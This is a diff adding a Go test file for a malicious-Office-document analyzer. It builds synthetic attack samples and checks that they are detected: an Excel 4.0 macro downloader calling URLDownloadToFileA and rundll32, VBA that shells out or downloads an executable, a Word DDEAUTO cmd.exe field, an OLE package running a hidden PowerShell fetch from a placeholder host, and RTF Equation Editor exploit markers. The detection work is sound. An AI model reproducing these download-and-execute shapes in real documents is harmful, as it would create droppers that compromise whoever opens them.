@@ -1,0 +1,181 @@
+package office
+
+import (
+	"bytes"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/sekisho/sekisho/internal/testutil/testdoc"
+)
+
+// dropperFormulas is the shape of an Excel 4.0 downloader: REGISTER
+// urlmon's URLDownloadToFileA, CALL it, EXEC the result, HALT.
+func dropperFormulas(ver int) [][]byte {
+	reg := append(append(append(testdoc.PtgStr(ver, "urlmon"), testdoc.PtgStr(ver, "URLDownloadToFileA")...), testdoc.PtgStr(ver, "JJCCJJ")...), testdoc.PtgFuncVar(3, testdoc.FtabRegister)...)
+	call := append(testdoc.PtgStr(ver, "http://example.invalid/a.dll"), testdoc.PtgFuncVar(1, testdoc.FtabCall)...)
+	exec := append(testdoc.PtgStr(ver, "rundll32 a.dll,Start"), testdoc.PtgFunc(testdoc.FtabExec)...)
+	return [][]byte{reg, call, exec, testdoc.PtgFunc(testdoc.FtabHalt)}
+}
+
+func benignFormulas(ver int) [][]byte {
+	return [][]byte{append(testdoc.PtgStr(ver, "total"), testdoc.PtgFuncVar(1, testdoc.FtabSum)...)}
+}
+
+func TestXLMBinaryWorkbooks(t *testing.T) {
+	for _, ver := range []int{5, 8} {
+		x := testdoc.XLS(ver, []testdoc.Sheet{{Name: "Sheet1", Formulas: benignFormulas(ver)}, {Name: "Macro1", Macro: true, State: 2, Formulas: dropperFormulas(ver)}}, true)
+		r := AnalyzeOLE(x, Limits{})
+		if r.Kind != "xls" || !r.XLM || !r.XLMHidden || !r.XLMAutoOpen || !slices.Equal(r.XLMSheets, []string{"Macro1"}) {
+			t.Fatalf("BIFF%d: %+v", ver, r)
+		}
+		for _, c := range []string{"REGISTER", "CALL", "EXEC", "HALT", "URLDownloadToFileA", "rundll32 a.dll,Start"} {
+			if !slices.Contains(r.XLMCalls, c) {
+				t.Errorf("BIFF%d: %s missing from %q", ver, c, r.XLMCalls)
+			}
+		}
+		// benign twin: worksheets with ordinary formulas
+		b := AnalyzeOLE(testdoc.XLS(ver, []testdoc.Sheet{{Name: "Sheet1", Formulas: benignFormulas(ver)}, {Name: "Sheet2", State: 1}}, false), Limits{})
+		if b.XLM || b.XLMHidden || b.XLMAutoOpen || len(b.XLMCalls) > 0 {
+			t.Errorf("BIFF%d benign: %+v", ver, b)
+		}
+	}
+}
+
+func TestXLMXLSB(t *testing.T) {
+	x := testdoc.XLSB([]testdoc.Sheet{{Name: "Sheet1", Formulas: benignFormulas(12)}, {Name: "Macro1", Macro: true, State: 1, Formulas: dropperFormulas(12)}}, true)
+	r := AnalyzeOOXML(openZip(t, x), Limits{})
+	if r.Kind != "xlsb" || !r.XLM || !r.XLMHidden || !r.XLMAutoOpen {
+		t.Fatalf("%+v", r)
+	}
+	for _, c := range []string{"REGISTER", "CALL", "EXEC", "URLDownloadToFileA"} {
+		if !slices.Contains(r.XLMCalls, c) {
+			t.Errorf("%s missing from %q", c, r.XLMCalls)
+		}
+	}
+	// visible macro sheet, no Auto_Open: still XLM, not hidden
+	r = AnalyzeOOXML(openZip(t, testdoc.XLSB([]testdoc.Sheet{{Name: "M", Macro: true, Formulas: dropperFormulas(12)}}, false)), Limits{})
+	if !r.XLM || r.XLMHidden || r.XLMAutoOpen {
+		t.Fatalf("visible: %+v", r)
+	}
+	b := AnalyzeOOXML(openZip(t, testdoc.XLSB([]testdoc.Sheet{{Name: "Sheet1", Formulas: benignFormulas(12)}, {Name: "Hidden", State: 2}}, false)), Limits{})
+	if b.XLM || b.XLMHidden || b.XLMAutoOpen || b.Kind != "xlsb" {
+		t.Fatalf("benign: %+v", b)
+	}
+}
+
+func TestVBACapabilities(t *testing.T) {
+	cases := []struct {
+		code string
+		caps []string
+		runs bool
+	}{
+		{"Private Sub CommandButton1_Click()\r\nShell \"cmd /c calc\", vbHide\r\nEnd Sub", []string{"shell"}, true},
+		{"Private Sub ComboBox1_Change()\r\nSet h = CreateObject(\"Microsoft.XMLHTTP\")\r\nh.Open \"GET\", u, False\r\nSet s = CreateObject(\"ADODB.Stream\")\r\ns.SaveToFile \"a.exe\", 2\r\nEnd Sub",
+			[]string{"create-object", "download", "file-write"}, true},
+		{"Sub Go()\r\nGetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\").Create \"calc\"\r\nEnd Sub", []string{"create-object", "wmi"}, false},
+		{"Sub UserForm_Activate()\r\nCreateObject(\"WScript.Shell\").RegWrite \"HKCU\\Software\\x\", 1\r\nEnd Sub", []string{"create-object", "registry", "shell"}, true},
+		{"Sub Save()\r\nOpen \"c:\\out.txt\" For Output As #1\r\nPrint #1, \"x\"\r\nClose #1\r\nEnd Sub", []string{"file-write"}, false},
+		{"Sub Button1_Click()\r\nMsgBox \"Hello\"\r\nRange(\"A1\").Value = 1\r\nEnd Sub", nil, false},
+	}
+	for _, c := range cases {
+		got := Classify(c.code)
+		if !slices.Equal(got.Capabilities, c.caps) {
+			t.Errorf("%q: capabilities %v want %v", c.code, got.Capabilities, c.caps)
+		}
+		if got.RunsCode() != (len(c.caps) > 0 && (slices.Contains(c.caps, "shell") || slices.Contains(c.caps, "download") || slices.Contains(c.caps, "wmi"))) {
+			t.Errorf("%q: RunsCode %v", c.code, got.RunsCode())
+		}
+		if c.runs && len(got.Triggers) == 0 {
+			t.Errorf("%q: no trigger found", c.code)
+		}
+	}
+}
+
+func TestWordBinaryDDE(t *testing.T) {
+	for _, wide := range []bool{false, true} {
+		doc := testdoc.WordDoc("Dear customer\r\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" \x14\x15\r", wide, nil)
+		r := AnalyzeOLE(doc, Limits{})
+		if r.Kind != "doc" || len(r.DDE) != 1 || !strings.HasPrefix(r.DDE[0], "DDEAUTO") {
+			t.Errorf("wide=%v: %+v", wide, r)
+		}
+		// benign twins: other fields, and DDE in running text
+		b := AnalyzeOLE(testdoc.WordDoc("See page \x13 PAGE \x14 3\x15 and \x13 HYPERLINK \"http://example.com\" \x14link\x15. DDE links are old.", wide, nil), Limits{})
+		if len(b.DDE) != 0 {
+			t.Errorf("wide=%v benign: %q", wide, b.DDE)
+		}
+	}
+}
+
+func TestOLEPackageCommand(t *testing.T) {
+	cmd := testdoc.Ole10Native("readme.txt", `C:\Windows\System32\cmd.exe`, 1, `cmd.exe /c powershell -w hidden -c "iwr http://example.invalid/a"`, nil)
+	exe := testdoc.Ole10Native("invoice.pdf", `C:\Users\a\invoice.exe`, 3, `C:\Temp\invoice.exe`, append([]byte("MZ"), make([]byte, 64)...))
+	pdf := testdoc.Ole10Native("report.pdf", `C:\Users\a\report.pdf`, 3, `C:\Temp\report.pdf`, []byte("%PDF-1.4\n"))
+	containers := map[string]func(native []byte) *Report{
+		"doc": func(n []byte) *Report {
+			return AnalyzeOLE(testdoc.WordDoc("text", false, map[string][]byte{"ObjectPool/_1234/\x01Ole10Native": n}), Limits{})
+		},
+		"xls": func(n []byte) *Report {
+			return AnalyzeOLE(testdoc.CFB(map[string][]byte{"Workbook": testdoc.BIFFRecord(0x000a, nil), "MBD0001/\x01Ole10Native": n}), Limits{})
+		},
+		"docx": func(n []byte) *Report {
+			return AnalyzeOOXML(openZip(t, testdoc.Zip(map[string][]byte{"[Content_Types].xml": []byte("<Types/>"), "word/document.xml": []byte("<w:document/>"),
+				"word/embeddings/oleObject1.bin": testdoc.CFB(map[string][]byte{"\x01Ole10Native": n})})), Limits{})
+		},
+		"rtf": func(n []byte) *Report {
+			return AnalyzeRTF(testdoc.RTFObject("Package", testdoc.OLE1("Package", n[4:])), Limits{})
+		},
+	}
+	for kind, open := range containers {
+		r := open(cmd)
+		if len(r.OLEPackageCommand) == 0 || !strings.Contains(strings.Join(r.OLEPackageCommand, " "), "powershell") {
+			t.Errorf("%s command: %+v", kind, r)
+		}
+		r = open(exe)
+		if !slices.Contains(r.OLEPackage, "invoice.exe") || len(r.Embedded) != 1 || !bytes.HasPrefix(r.Embedded[0].Data, []byte("MZ")) {
+			t.Errorf("%s exe: %+v", kind, r)
+		}
+		r = open(pdf)
+		if len(r.OLEPackageCommand) != 0 || !slices.Contains(r.OLEPackage, "report.pdf") {
+			t.Errorf("%s pdf: %+v", kind, r)
+		}
+	}
+}
+
+func TestRTFExploitClasses(t *testing.T) {
+	eqCLSID := guidBytes("0002ce02-0000-0000-c000-000000000046")
+	cases := []struct {
+		name string
+		rtf  []byte
+	}{
+		{"objclass Equation.3", testdoc.RTFObject("Equation.3", testdoc.OLE1("Equation.3", testdoc.CFB(map[string][]byte{"Contents": {1}})))},
+		{"OLE2Link class", testdoc.RTFObject("", testdoc.OLE1("OLE2Link", testdoc.CFB(map[string][]byte{"Contents": {1}})))},
+		{"root CLSID", testdoc.RTFObject("", testdoc.OLE1("xyzzy", testdoc.SetRootCLSID(testdoc.CFB(map[string][]byte{"Contents": {1}}), eqCLSID)))},
+		{"Equation Native stream", testdoc.RTFObject("", testdoc.OLE1("abc", testdoc.CFB(map[string][]byte{"Equation Native": make([]byte, 40)})))},
+		{"CLSID in text", []byte(`{\rtf1{\object\objocx{\*\objdata 0105}}{\*\clsid 0002CE02-0000-0000-C000-000000000046}}`)},
+	}
+	for _, c := range cases {
+		if r := AnalyzeRTF(c.rtf, Limits{}); !r.RTFExploitable || r.RTFExploitClass == "" {
+			t.Errorf("%s: %+v", c.name, r)
+		}
+	}
+	if cfbRootCLSID(testdoc.SetRootCLSID(testdoc.CFB(map[string][]byte{"a": {1}}), eqCLSID)) == nil {
+		t.Fatal("root CLSID not read")
+	}
+	// Malformed RTF, and RTF that only talks about equations, is no exploit.
+	benign := map[string][]byte{
+		"unbalanced":      []byte(`{\rtf1\ansi{{{{{{\b bold}}}}}}}}}}}} text {\*\objdata zz-not-hex-at-all`),
+		"truncated":       []byte(`{\rtf1\ansi{\object\objemb{\*\objclass Word.Picture}{\*\objdata 01050000020000000b000000576f72`),
+		"odd header":      []byte("{\\rtvpn\\ansi\x00\x01\x02\xff\xfe{\\pict\\wmetafile8 0102030405}}"),
+		"mentions eq":     []byte(`{\rtf1\ansi Insert an equation with Equation.3 or the new editor (CLSID 0002CE02-0000-0000-C000-000000000046 is the old one).\par}`),
+		"picture object":  testdoc.RTFObject("Paint.Picture", testdoc.OLE1("Paint.Picture", []byte("BM\x00\x00"))),
+		"deep nesting":    bytes.Repeat([]byte("{"), 100000),
+		"binary garbage":  append([]byte(`{\rtf1`), bytes.Repeat([]byte{0xff, '\\', 'o', 'b', 'j', 0}, 5000)...),
+		"objdata garbage": []byte(`{\rtf1{\object{\*\objdata ` + strings.Repeat("g1h2", 1000) + `}}}`),
+	}
+	for name, b := range benign {
+		if r := AnalyzeRTF(b, Limits{}); r.RTFExploitable {
+			t.Errorf("%s flagged as exploit: %+v", name, r)
+		}
+	}
+}
